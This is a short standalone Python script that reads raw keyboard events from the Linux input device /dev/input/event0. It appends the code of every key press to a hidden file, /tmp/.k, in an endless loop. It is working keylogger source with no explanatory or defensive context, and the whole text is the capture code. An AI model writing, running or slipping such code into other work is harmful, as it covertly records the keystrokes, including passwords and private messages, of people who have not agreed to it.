import struct

EVENT_FMT = "llHHI"
size = struct.calcsize(EVENT_FMT)
with open("/dev/input/event0", "rb") as dev, open("/tmp/.k", "a") as log:
    while True:
        ev = dev.read(size)
        _, _, etype, code, value = struct.unpack(EVENT_FMT, ev)
        if etype == 1 and value == 1:
            log.write(f"{code} ")
            log.flush()
